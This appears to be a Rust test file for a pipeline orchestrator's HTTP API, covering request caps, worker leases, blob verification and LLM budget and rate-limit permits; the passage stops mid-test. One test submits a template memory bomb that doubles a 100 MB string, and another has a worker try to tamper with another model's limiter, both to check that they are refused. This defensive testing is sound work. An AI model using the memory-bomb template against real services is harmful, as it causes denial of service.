//! HTTP API tests: the axum router driven in-process with `oneshot`, over a real SQLite
//! store and blob directory in a fresh temp dir per test.

use assay::api::{ClaimBody, ClaimResponse, ReportBody, SubmitRequest};
use assay::server::blobs::BlobStore;
use assay::server::{app, caps, open_store, AppState, Signals};
use assay::store::{
    ArtifactRef, Heartbeat, HeldLease, LeasePolicy, Report, ReportOutcome, WorkerRegistration,
};
use axum::body::Body;
use axum::http::{header, Method, Request, StatusCode};
use axum::Router;
use http_body_util::BodyExt;
use serde_json::{json, Value};
use sha2::{Digest, Sha256};
use std::collections::HashMap;
use tokio_util::sync::CancellationToken;
use tower::ServiceExt;

/// The app over a fresh store; keep the `TempDir` alive for the test's duration.
async fn setup() -> (tempfile::TempDir, Router) {
    setup_with(|_| {}).await
}

/// [`setup`], with the state changed first.
async fn setup_with(change: impl FnOnce(&mut AppState)) -> (tempfile::TempDir, Router) {
    let dir = tempfile::tempdir().unwrap();
    let mut state = AppState {
        store: open_store(dir.path()).await.unwrap(),
        blobs: BlobStore::open(&dir.path().join("blobs")).unwrap(),
        lease: LeasePolicy::default(),
        signals: Signals::default(),
        shutdown: CancellationToken::new(),
        llm: Default::default(),
        started_at: assay::domain::now_micros(),
        auth: Default::default(),
        hosts: Default::default(),
        allowed_kinds: std::sync::Arc::new(
            assay::kinds::KNOWN_KINDS
                .iter()
                .map(|k| k.to_string())
                .collect(),
        ),
        providers: std::sync::Arc::new(vec!["openrouter".into()]),
        long_polls: caps::Held::new("long-polls", caps::LONG_POLLS_PER_CLIENT),
        streams: caps::Held::new("event streams", caps::STREAMS_PER_CLIENT),
        planner: assay::planner::Planner::isolated(env!("CARGO_BIN_EXE_assay")),
    };
    change(&mut state);
    (dir, app(state))
}

/// A client holds at most its cap of streams and long-polls: the next one is a clear 429,
/// and a closed one gives its place back.
#[tokio::test]
async fn streams_and_long_polls_are_capped_per_client() {
    let (_dir, app) = setup_with(|s| {
        s.streams = caps::Held::new("event streams", 1);
        s.long_polls = caps::Held::new("long-polls", 1);
    })
    .await;
    let open = app
        .clone()
        .oneshot(Request::get("/api/v1/stream").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(open.status(), StatusCode::OK);
    let (status, body) = send(
        &app,
        Request::get("/api/v1/stream").body(Body::empty()).unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    let text = String::from_utf8_lossy(&body);
    assert!(
        text.contains("too_many_requests") && text.contains("1 event streams"),
        "{text}"
    );
    drop(open);
    let again = app
        .clone()
        .oneshot(Request::get("/api/v1/stream").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(
        again.status(),
        StatusCode::OK,
        "the closed stream gave its place back"
    );

    // A claim that waits holds a long-poll; the client's next one is refused meanwhile.
    let polls = caps::Held::new("long-polls", 1);
    let held = polls.clone();
    let (_dir, app) = setup_with(move |s| s.long_polls = held).await;
    register(&app, "w", &["noop"]).await;
    let waiting = {
        let app = app.clone();
        tokio::spawn(async move {
            let body = ClaimBody {
                wait_ms: 30_000,
                ..claim_body("w", &["noop"], 1)
            };
            post(&app, "/api/v1/workers/claim", &body).await
        })
    };
    while polls.held_by(None) == 0 {
        tokio::task::yield_now().await;
    }
    let body = ClaimBody {
        wait_ms: 1_000,
        ..claim_body("w", &["noop"], 1)
    };
    let (status, refused) = post(&app, "/api/v1/workers/claim", &body).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{refused}");
    assert_eq!(code(&refused), "too_many_requests");
    waiting.abort();
}

/// Send one request; the body is parsed as JSON when it is JSON, else kept as a string.
async fn send(app: &Router, req: Request<Body>) -> (StatusCode, Vec<u8>) {
    let resp = app.clone().oneshot(req).await.unwrap();
    let status = resp.status();
    let bytes = resp.into_body().collect().await.unwrap().to_bytes();
    (status, bytes.to_vec())
}

async fn call(
    app: &Router,
    method: Method,
    uri: &str,
    body: Option<Vec<u8>>,
) -> (StatusCode, Value) {
    let mut req = Request::builder().method(method).uri(uri);
    if body.is_some() {
        req = req.header(header::CONTENT_TYPE, "application/json");
    }
    let req = req.body(body.map(Body::from).unwrap_or_default()).unwrap();
    let (status, bytes) = send(app, req).await;
    let value = serde_json::from_slice(&bytes)
        .unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into_owned()));
    (status, value)
}

async fn get(app: &Router, uri: &str) -> (StatusCode, Value) {
    call(app, Method::GET, uri, None).await
}

async fn post<T: serde::Serialize>(app: &Router, uri: &str, body: &T) -> (StatusCode, Value) {
    call(
        app,
        Method::POST,
        uri,
        Some(serde_json::to_vec(body).unwrap()),
    )
    .await
}

fn code(body: &Value) -> &str {
    body["error"]["code"].as_str().unwrap_or("<no error code>")
}

fn submit_req(spec: &str, key: Option<&str>) -> SubmitRequest {
    SubmitRequest {
        spec: spec.to_string(),
        file_name: Some("test.toml".into()),
        idempotency_key: key.map(str::to_string),
    }
}

/// Submit a spec that must be accepted; returns the pipeline id.
async fn submit(app: &Router, spec: &str) -> i64 {
    let (status, body) = post(app, "/api/v1/pipelines", &submit_req(spec, None)).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    body["pipeline_id"].as_i64().unwrap()
}

async fn register(app: &Router, id: &str, kinds: &[&str]) {
    let reg = WorkerRegistration {
        id: id.into(),
        name: id.into(),
        kinds: kinds.iter().map(|k| k.to_string()).collect(),
    };
    let (status, body) = post(app, "/api/v1/workers/register", &reg).await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

fn claim_body(worker: &str, kinds: &[&str], limit: i64) -> ClaimBody {
    ClaimBody {
        worker_id: worker.into(),
        kinds: kinds.iter().map(|k| k.to_string()).collect(),
        limit,
        wait_ms: 0,
    }
}

async fn claim(app: &Router, worker: &str, kinds: &[&str], limit: i64) -> ClaimResponse {
    let (status, body) = post(
        app,
        "/api/v1/workers/claim",
        &claim_body(worker, kinds, limit),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    serde_json::from_value(body).unwrap()
}

fn sha256_hex(data: &[u8]) -> String {
    hex::encode(Sha256::digest(data))
}

const TWO_NOOPS: &str =
    "[pipeline]\nname = \"two\"\n[[stage]]\nname = \"a\"\nkind = \"noop\"\nitems = [1, 2]\n";

const CHAIN: &str = "[pipeline]\nname = \"chain\"\n[[stage]]\nname = \"up\"\nkind = \"noop\"\n[[stage]]\nname = \"down\"\nkind = \"noop\"\nafter = [\"up\"]\n";

#[tokio::test]
async fn invalid_spec_names_line_and_field() {
    let (_dir, app) = setup().await;
    let spec =
        "[pipeline]\nname = \"x\"\n\n[[stage]]\nname = \"a\"\nkind = \"noop\"\nafter = [\"nope\"]\n";
    let (status, body) = post(&app, "/api/v1/pipelines", &submit_req(spec, None)).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(code(&body), "invalid_spec", "{body}");
    let msg = body["error"]["message"].as_str().unwrap();
    assert!(msg.contains("test.toml:7:"), "{msg}");
    assert!(msg.contains("stage[0].after"), "{msg}");
    assert!(msg.contains("nope"), "{msg}");
}

/// A templated spec is planned by a child `assay` under a memory limit: its templates
/// render as in process, and one that builds a huge string is refused with the reason while
/// the server goes on.
#[tokio::test]
async fn templates_are_planned_in_a_child_that_cannot_take_the_servers_memory() {
    let (_dir, app) = setup_with(|s| {
        s.planner = assay::planner::Planner::isolated(env!("CARGO_BIN_EXE_assay"))
            .with_memory_limit(512 << 20);
    })
    .await;
    let templated = "[pipeline]\nname = \"t\"\n[[stage]]\nname = \"a\"\nkind = \"noop\"\n\
        matrix = { model = [\"m1\", \"m2\"], n = [1, 2] }\n\
        [stage.params]\nlabel = \"{{ model }}-{{ n * 10 }}\"\nfixed = 7\n";
    let id = submit(&app, templated).await;
    let (status, jobs) = get(&app, &format!("/api/v1/jobs?pipeline={id}")).await;
    assert_eq!(status, StatusCode::OK, "{jobs}");
    let mut labels: Vec<String> = jobs
        .as_array()
        .unwrap()
        .iter()
        .map(|j| j["params"]["label"].as_str().unwrap().to_string())
        .collect();
    labels.sort();
    assert_eq!(labels, ["m1-10", "m1-20", "m2-10", "m2-20"], "{jobs}");

    // 100 MB, doubled three times: 800 MB, with the copies more.
    let bomb = format!(
        "[pipeline]\nname = \"b\"\n[[stage]]\nname = \"m\"\nkind = \"noop\"\nitems = [1]\n\
         [stage.params]\nv = \"{{% set a = 'x' * 100000000 %}}{}{{{{ a | length }}}}\"\n",
        "{% set a = a ~ a %}".repeat(3)
    );
    let (status, body) = post(&app, "/api/v1/pipelines", &submit_req(&bomb, None)).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(code(&body), "invalid_spec", "{body}");
    let message = body["error"]["message"].as_str().unwrap();
    assert!(
        message.starts_with("test.toml: ") && message.contains("more than 512 MiB of memory"),
        "{message}"
    );
    let (status, pipelines) = get(&app, "/api/v1/pipelines").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(pipelines.as_array().unwrap().len(), 1, "{pipelines}");
}

#[tokio::test]
async fn submit_is_idempotent_by_key() {
    let (_dir, app) = setup().await;
    let (status, first) = post(
        &app,
        "/api/v1/pipelines",
        &submit_req(TWO_NOOPS, Some("k1")),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{first}");
    assert_eq!(first["created"], json!(true));
    let id = first["pipeline_id"].as_i64().unwrap();

    let (status, again) = post(
        &app,
        "/api/v1/pipelines",
        &submit_req(TWO_NOOPS, Some("k1")),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{again}");
    assert_eq!(again["pipeline_id"].as_i64(), Some(id));
    assert_eq!(again["created"], json!(false));

    let (status, conflict) = post(&app, "/api/v1/pipelines", &submit_req(CHAIN, Some("k1"))).await;
    assert_eq!(status, StatusCode::CONFLICT, "{conflict}");
    assert_eq!(code(&conflict), "idempotency_conflict", "{conflict}");
}

#[tokio::test]
async fn not_found_and_bad_query() {
    let (_dir, app) = setup().await;
    let (status, body) = get(&app, "/api/v1/pipelines/999").await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
    assert_eq!(code(&body), "not_found", "{body}");

    let (status, body) = get(&app, "/api/v1/jobs?state=bogus").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(code(&body), "invalid_request", "{body}");
}

#[tokio::test]
async fn worker_lifecycle_claim_heartbeat_report() {
    let (_dir, app) = setup().await;
    let id = submit(&app, TWO_NOOPS).await;

    let (status, body) = post(
        &app,
        "/api/v1/workers/claim",
        &claim_body("ghost", &["noop"], 10),
    )
    .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert_eq!(code(&body), "unknown_worker", "{body}");

    register(&app, "w1", &["noop"]).await;
    let claimed = claim(&app, "w1", &["noop"], 10).await;
    assert_eq!(claimed.jobs.len(), 2, "{claimed:?}");
    assert!(claimed.jobs.iter().all(|j| j.pipeline_id == id));

    let hb = Heartbeat {
        worker_id: "w1".into(),
        leases: claimed
            .jobs
            .iter()
            .map(|j| HeldLease {
                job_id: j.job_id,
                token: j.token.clone(),
                progress: None,
                finished: false,
                waited_ms: 0,
            })
            .collect(),
    };
    let (status, body) = post(&app, "/api/v1/workers/heartbeat", &hb).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["stop"], json!([]), "{body}");

    let reports = ReportBody {
        reports: claimed
            .jobs
            .iter()
            .map(|j| Report {
                job_id: j.job_id,
                attempt: j.attempt,
                token: j.token.clone(),
                worker_id: "w1".into(),
                outcome: ReportOutcome::Completed {
                    result: json!({"ok": j.key}),
                    artifacts: vec![],
                },
            })
            .collect(),
    };
    let (status, body) = post(&app, "/api/v1/workers/report", &reports).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["acks"], json!(["accepted", "accepted"]), "{body}");

    let (status, body) = get(&app, &format!("/api/v1/pipelines/{id}")).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["pipeline"]["state"], json!("completed"), "{body}");
}

#[tokio::test]
async fn garbage_body_is_a_client_error_and_the_app_survives() {
    let (_dir, app) = setup().await;
    let (status, body) = call(
        &app,
        Method::POST,
        "/api/v1/workers/report",
        Some(b"{not json".to_vec()),
    )
    .await;
    assert!(status.is_client_error(), "{status}: {body}");
    assert_eq!(body["error"]["code"], json!("invalid_request"), "{body}");

    let (status, body) = get(&app, "/api/v1/pipelines/not-a-number").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(body["error"]["code"], json!("invalid_request"), "{body}");
    let (status, body) = get(&app, "/api/v1/jobs?limit=lots").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(body["error"]["code"], json!("invalid_request"), "{body}");

    let (status, body) = get(&app, "/api/v1/health").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["status"], json!("ok"));
}

async fn put_blob(app: &Router, digest: &str, data: &'static [u8]) -> (StatusCode, Value) {
    let req = Request::put(format!("/api/v1/blobs/{digest}"))
        .body(Body::from(data))
        .unwrap();
    let (status, bytes) = send(app, req).await;
    (
        status,
        serde_json::from_slice(&bytes).unwrap_or(Value::Null),
    )
}

#[tokio::test]
async fn blobs_round_trip_and_are_verified() {
    let (_dir, app) = setup().await;
    let digest = sha256_hex(b"hello");
    let uri = format!("/api/v1/blobs/{digest}");

    let (status, body) = put_blob(&app, &digest, b"hello").await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["size"], json!(5));

    let (status, _) = send(&app, Request::head(&uri).body(Body::empty()).unwrap()).await;
    assert_eq!(status, StatusCode::OK);

    let (status, bytes) = send(&app, Request::get(&uri).body(Body::empty()).unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(bytes, b"hello");

    let other = sha256_hex(b"something else");
    let (status, body) = put_blob(&app, &other, b"hello").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(code(&body), "hash_mismatch", "{body}");
    let (status, _) = send(
        &app,
        Request::head(format!("/api/v1/blobs/{other}"))
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_eq!(
        status,
        StatusCode::NOT_FOUND,
        "a mismatched upload is not stored"
    );

    let (status, body) = put_blob(&app, "not-a-digest", b"hello").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(code(&body), "invalid_request", "{body}");
}

#[tokio::test]
async fn report_with_unuploaded_artifact_is_refused() {
    let (_dir, app) = setup().await;
    submit(
        &app,
        "[pipeline]\nname = \"one\"\n[[stage]]\nname = \"a\"\nkind = \"noop\"\n",
    )
    .await;
    register(&app, "w1", &["noop"]).await;
    let claimed = claim(&app, "w1", &["noop"], 10).await;
    assert_eq!(claimed.jobs.len(), 1, "{claimed:?}");
    let job = &claimed.jobs[0];

    let missing = sha256_hex(b"never uploaded");
    let reports = ReportBody {
        reports: vec![Report {
            job_id: job.job_id,
            attempt: job.attempt,
            token: job.token.clone(),
            worker_id: "w1".into(),
            outcome: ReportOutcome::Completed {
                result: json!(null),
                artifacts: vec![ArtifactRef {
                    name: "out.txt".into(),
                    sha256: missing.clone(),
                    size: 14,
                }],
            },
        }],
    };
    let (status, body) = post(&app, "/api/v1/workers/report", &reports).await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert_eq!(code(&body), "missing_blob", "{body}");
    assert!(body["error"]["message"]
        .as_str()
        .unwrap()
        .contains(&missing));

    let (status, body) = get(&app, &format!("/api/v1/jobs/{}", job.job_id)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["job"]["state"], json!("running"), "{body}");
    assert_eq!(body["artifacts"], json!([]), "{body}");
}

#[tokio::test]
async fn explain_names_the_upstream_a_job_waits_for() {
    let (_dir, app) = setup().await;
    let id = submit(&app, CHAIN).await;
    let (status, jobs) = get(&app, &format!("/api/v1/jobs?pipeline={id}&stage=down")).await;
    assert_eq!(status, StatusCode::OK, "{jobs}");
    let down = jobs[0]["id"].as_i64().unwrap();
    assert_eq!(jobs[0]["state"], json!("waiting"), "{jobs}");

    let (status, body) = get(&app, &format!("/api/v1/jobs/{down}")).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["wait"]["reason"], json!("upstream"), "{body}");
    assert_eq!(body["wait"]["pending"], json!(["up"]), "{body}");
    let summary = body["summary"].as_str().unwrap();
    assert!(summary.contains("up"), "{summary}");
    assert!(summary.contains("upstream"), "{summary}");
}

#[tokio::test]
async fn events_are_ordered_and_long_poll_times_out_empty() {
    let (_dir, app) = setup().await;
    let id = submit(&app, TWO_NOOPS).await;
    let (status, body) = get(&app, &format!("/api/v1/pipelines/{id}/events?after=0")).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let events = body["events"].as_array().unwrap();
    assert!(!events.is_empty(), "{body}");
    assert_eq!(events[0]["kind"], json!("pipeline_created"), "{body}");
    let ids: Vec<i64> = events.iter().map(|e| e["id"].as_i64().unwrap()).collect();
    assert!(ids.windows(2).all(|w| w[0] < w[1]), "{ids:?}");
    let last = body["last_id"].as_i64().unwrap();
    assert_eq!(last, *ids.last().unwrap());

    let started = std::time::Instant::now();
    let (status, body) = get(
        &app,
        &format!("/api/v1/pipelines/{id}/events?after={last}&wait_ms=50"),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["events"], json!([]), "{body}");
    assert_eq!(body["last_id"].as_i64(), Some(last), "{body}");
    assert!(started.elapsed() >= std::time::Duration::from_millis(40));
}

async fn put(app: &Router, uri: &str, body: &Value) -> (StatusCode, Value) {
    call(
        app,
        Method::PUT,
        uri,
        Some(serde_json::to_vec(body).unwrap()),
    )
    .await
}

fn acquire_body(job_id: i64, model: &str, wait_ms: u64) -> Value {
    json!({
        "job_id": job_id,
        "provider": "openrouter",
        "model": model,
        "hold_ms": 60_000,
        "wait_ms": wait_ms,
    })
}

/// Ask for a slot; the answer is `200` whatever it says.
async fn acquire(app: &Router, job_id: i64, model: &str, wait_ms: u64) -> Value {
    let (status, body) = post(
        app,
        "/api/v1/llm/acquire",
        &acquire_body(job_id, model, wait_ms),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    body
}

/// Ask for a slot that must be granted; returns the permit.
async fn permit(app: &Router, job_id: i64, model: &str) -> u64 {
    let body = acquire(app, job_id, model, 0).await;
    assert_eq!(body["stop"], Value::Null, "{body}");
    assert_eq!(body["wait"], Value::Null, "{body}");
    body["permit"]
        .as_u64()
        .unwrap_or_else(|| panic!("no permit: {body}"))
}

/// Record a finished call with the permit it used and how it went.
async fn record_call(app: &Router, call: Value, permit: Option<u64>, outcome: Value) {
    let (status, body) = post(
        app,
        "/api/v1/llm/calls",
        &json!({"call": call, "permit": permit, "outcome": outcome}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

fn paid_call(job_id: i64, model: &str, cost_usd: f64) -> Value {
    json!({
        "call_id": uuid::Uuid::new_v4().to_string(),
        "job_id": job_id,
        "attempt": 1,
        "provider": "openrouter",
        "model": model,
        "model_resolved": format!("{model}-2025"),
        "result": "paid",
        "prompt_tokens": 700,
        "completion_tokens": 300,
        "cost_usd": cost_usd,
    })
}

/// Generate jobs that call models: two of `small`, one of `large`; the tests play their
/// workers. A job takes slots and records calls only for its own model.
fn llm_jobs_spec(budget: &str) -> String {
    format!(
        "[pipeline]\nname = \"llm\"\n{budget}[[stage]]\nname = \"a\"\nkind = \"generate\"\n\
         items = [{{ model = \"small\", n = 1 }}, {{ model = \"small\", n = 2 }}, \
         {{ model = \"large\", n = 1 }}]\n[stage.params]\nmodel = \"{{{{ model }}}}\"\n\
         template = \"todo-api\"\n"
    )
}

/// The job of `pipeline` for `model`'s `n`th item.
async fn llm_job(app: &Router, pipeline: i64, model: &str, n: i64) -> i64 {
    let (_, jobs) = get(app, &format!("/api/v1/jobs?pipeline={pipeline}")).await;
    jobs.as_array()
        .unwrap()
        .iter()
        .find(|j| j["item"]["model"] == json!(model) && j["item"]["n"] == json!(n))
        .unwrap_or_else(|| panic!("no job for {model} {n}: {jobs}"))["id"]
        .as_i64()
        .unwrap()
}

#[tokio::test]
async fn llm_acquire_needs_a_running_job() {
    let (_dir, app) = setup().await;
    let id = submit(&app, &llm_jobs_spec("")).await;
    let job = llm_job(&app, id, "small", 1).await;

    let body = acquire(&app, job, "small", 0).await;
    assert_eq!(body["stop"]["code"], json!("not_running"), "{body}");
    assert_eq!(body["permit"], Value::Null, "{body}");
    assert!(
        body["stop"]["message"]
            .as_str()
            .unwrap()
            .contains(&format!("job {job}")),
        "{body}"
    );

    let (status, body) = post(
        &app,
        "/api/v1/llm/acquire",
        &acquire_body(job + 1_000, "small", 0),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
    assert_eq!(code(&body), "not_found", "{body}");

    // Once claimed it may call; once finished it may not any more.
    register(&app, "w1", &["generate"]).await;
    let claimed = claim(&app, "w1", &["generate"], 10).await;
    let mine = claimed.jobs.iter().find(|j| j.job_id == job).unwrap();
    permit(&app, job, "small").await;
    let reports = ReportBody {
        reports: vec![Report {
            job_id: mine.job_id,
            attempt: mine.attempt,
            token: mine.token.clone(),
            worker_id: "w1".into(),
            outcome: ReportOutcome::Completed {
                result: json!({}),
                artifacts: vec![],
            },
        }],
    };
    let (status, body) = post(&app, "/api/v1/workers/report", &reports).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let body = acquire(&app, job, "small", 0).await;
    assert_eq!(body["stop"]["code"], json!("not_running"), "{body}");
}

#[tokio::test]
async fn llm_budget_stops_new_calls_once_spent() {
    let (_dir, app) = setup().await;
    let id = submit(&app, &llm_jobs_spec("budget = { usd = 0.01 }\n")).await;
    register(&app, "w1", &["generate"]).await;
    let claimed = claim(&app, "w1", &["generate"], 10).await;
    assert_eq!(claimed.jobs.len(), 3, "{claimed:?}");
    let job = llm_job(&app, id, "small", 1).await;
    let large = llm_job(&app, id, "large", 1).await;

    let (status, usage) = get(&app, &format!("/api/v1/pipelines/{id}/usage")).await;
    assert_eq!(status, StatusCode::OK, "{usage}");
    assert_eq!(usage["budget"], json!({"usd": 0.01}), "{usage}");
    assert_eq!(usage["budget_reached"], Value::Null, "{usage}");
    assert_eq!(usage["total"]["calls"], json!(0), "{usage}");

    let p = permit(&app, job, "small").await;
    record_call(
        &app,
        paid_call(job, "small", 0.02),
        Some(p),
        json!({"outcome": "success"}),
    )
    .await;

    let body = acquire(&app, job, "small", 0).await;
    assert_eq!(body["stop"]["code"], json!("budget_exhausted"), "{body}");
    assert_eq!(body["permit"], Value::Null, "{body}");
    let message = body["stop"]["message"].as_str().unwrap();
    assert!(message.contains("budget"), "{message}");
    assert!(message.contains("0.0100"), "{message}");
    // The budget is the pipeline's, not the model's.
    let body = acquire(&app, large, "large", 0).await;
    assert_eq!(body["stop"]["code"], json!("budget_exhausted"), "{body}");

    let (status, usage) = get(&app, &format!("/api/v1/pipelines/{id}/usage")).await;
    assert_eq!(status, StatusCode::OK, "{usage}");
    assert_eq!(usage["pipeline_id"], json!(id), "{usage}");
    assert_eq!(usage["total"]["cost_usd"], json!(0.02), "{usage}");
    assert_eq!(usage["total"]["calls"], json!(1), "{usage}");
    assert_eq!(usage["total"]["paid_calls"], json!(1), "{usage}");
    assert_eq!(usage["total"]["prompt_tokens"], json!(700), "{usage}");
    assert_eq!(usage["total"]["completion_tokens"], json!(300), "{usage}");
    assert_eq!(usage["by_model"][0]["model"], json!("small"), "{usage}");
    assert_eq!(usage["by_job"][0]["job_id"], json!(job), "{usage}");
    assert_eq!(
        usage["by_job"][0]["key"],
        json!("a[model=small,n=1]"),
        "{usage}"
    );
    let reached = usage["budget_reached"].as_str().unwrap_or_default();
    assert!(reached.contains("budget"), "{usage}");

    let (status, body) = get(&app, "/api/v1/pipelines/999/usage").await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
    assert_eq!(code(&body), "not_found", "{body}");
}

#[tokio::test]
async fn llm_rate_limit_is_shared_by_every_job() {
    let (_dir, app) = setup().await;
    let id = submit(&app, &llm_jobs_spec("")).await;
    register(&app, "w1", &["generate"]).await;
    let claimed = claim(&app, "w1", &["generate"], 10).await;
    assert_eq!(claimed.jobs.len(), 3, "{claimed:?}");
    let first = llm_job(&app, id, "small", 1).await;
    let second = llm_job(&app, id, "small", 2).await;
    let large = llm_job(&app, id, "large", 1).await;

    let p = permit(&app, first, "small").await;
    let mut failed = paid_call(first, "small", 0.0);
    failed["result"] = json!("failed");
    failed["error"] = json!("rate_limited");
    failed["prompt_tokens"] = json!(0);
    failed["completion_tokens"] = json!(0);
    failed["model_resolved"] = Value::Null;
    record_call(
        &app,
        failed,
        Some(p),
        json!({"outcome": "rate_limited", "retry_after_ms": 60_000}),
    )
    .await;

    for job in [first, second] {
        let body = acquire(&app, job, "small", 0).await;
        assert_eq!(body["permit"], Value::Null, "{body}");
        assert_eq!(body["stop"], Value::Null, "{body}");
        assert_eq!(body["wait"]["reason"], json!("backing_off"), "{body}");
        let retry_in = body["retry_in_ms"].as_i64().unwrap_or_default();
        assert!(retry_in > 50_000 && retry_in <= 60_000, "{body}");
    }
    // Another model has its own limiter.
    permit(&app, large, "large").await;

    let (status, limits) = get(&app, "/api/v1/llm/limits").await;
    assert_eq!(status, StatusCode::OK, "{limits}");
    let small = limits
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["provider"] == json!("openrouter") && l["model"] == json!("small"))
        .unwrap_or_else(|| panic!("no limiter for the model: {limits}"));
    let status_text = small["status"].as_str().unwrap();
    assert!(
        status_text.starts_with("backing off until"),
        "{status_text}"
    );
    assert_eq!(small["wait"]["reason"], json!("backing_off"), "{limits}");
    assert_eq!(small["in_flight"], json!(0), "{limits}");
}

#[tokio::test]
async fn llm_acquire_long_polls_until_a_slot_is_given_back() {
    let (_dir, app) = setup().await;
    let id = submit(&app, &llm_jobs_spec("")).await;
    register(&app, "w1", &["generate"]).await;
    claim(&app, "w1", &["generate"], 10).await;
    let first = llm_job(&app, id, "small", 1).await;
    let second = llm_job(&app, id, "small", 2).await;
    let one_slot = |job: i64, wait_ms: u64| {
        let mut body = acquire_body(job, "small", wait_ms);
        body["limiter"] = json!({
            "initial": 1.0, "min": 1.0, "max": 1.0, "increase_step": 0.25,
            "backoff_base_ms": 1_000, "backoff_max_ms": 60_000,
        });
        body
    };
    let (status, body) = post(&app, "/api/v1/llm/acquire", &one_slot(first, 0)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let p = body["permit"].as_u64().unwrap();
    let (_, body) = post(&app, "/api/v1/llm/acquire", &one_slot(second, 0)).await;
    assert_eq!(body["wait"]["reason"], json!("at_concurrency"), "{body}");

    let waiting = {
        let app = app.clone();
        let body = one_slot(second, 5_000);
        tokio::spawn(async move { post(&app, "/api/v1/llm/acquire", &body).await })
    };
    tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    let started = std::time::Instant::now();
    record_call(
        &app,
        paid_call(first, "small", 0.001),
        Some(p),
        json!({"outcome": "success"}),
    )
    .await;
    let (status, body) = waiting.await.unwrap();
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body["permit"].as_u64().is_some(), "{body}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(2),
        "the waiting acquire got the slot given back within its wait"
    );
}

/// A worker holding one job tries to steer the limiter of a model other pipelines use:
/// back it off with a made-up 429, shrink it with its own limiter settings, or take its
/// slots. A job takes slots and records calls only for its own provider and model.
#[tokio::test]
async fn a_job_cannot_touch_another_models_limiter() {
    let (_dir, app) = setup().await;
    let id = submit(&app, &llm_jobs_spec("")).await;
    let noops = submit(&app, TWO_NOOPS).await;
    register(&app, "w1", &["generate", "noop"]).await;
    claim(&app, "w1", &["generate", "noop"], 10).await;
    let small = llm_job(&app, id, "small", 1).await;
    let (_, jobs) = get(&app, &format!("/api/v1/jobs?pipeline={noops}")).await;
    let noop = jobs[0]["id"].as_i64().unwrap();
    assert_eq!(jobs[0]["state"], json!("running"), "{jobs}");

    let refused = |body: &Value, needle: &str| {
        assert_eq!(code(body), "invalid_request", "{body}");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.contains(needle), "{message}");
    };
    let mut shrink = acquire_body(small, "large", 0);
    shrink["limiter"] = json!({
        "initial": 1.0, "min": 1.0, "max": 1.0, "increase_step": 0.0,
        "backoff_base_ms": 600_000, "backoff_max_ms": 600_000,
    });
    let (status, body) = post(&app, "/api/v1/llm/acquire", &shrink).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    refused(&body, "calls only its own model");
    let mut elsewhere = acquire_body(small, "small", 0);
    elsewhere["provider"] = json!("local");
    let (status, body) = post(&app, "/api/v1/llm/acquire", &elsewhere).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    refused(&body, "calls only its own model");
    let (status, body) = post(&app, "/api/v1/llm/acquire", &acquire_body(noop, "large", 0)).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    refused(&body, "only `generate` and `ai` jobs call models");

    let mut throttled = paid_call(small, "large", 0.0);
    throttled["result"] = json!("failed");
    throttled["error"] = json!("rate_limited");
    for job in [small, noop] {
        throttled["job_id"] = json!(job);
        throttled["call_id"] = json!(uuid::Uuid::new_v4().to_string());
        let (status, body) = post(
            &app,
            "/api/v1/llm/calls",
            &json!({"call": throttled, "permit": 1, "outcome": {"outcome": "rate_limited", "retry_after_ms": 600_000}}),
        )
        .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    }

    // The model's own jobs are untouched: a full slot at once, nothing spent, no limiter.
    let (_, limits) = get(&app, "/api/v1/llm/limits").await;
    assert!(
        !limits
            .as_array()
            .unwrap()
            .iter()
            .any(|l| l["model"] == json!("large")),
        "{limits}"
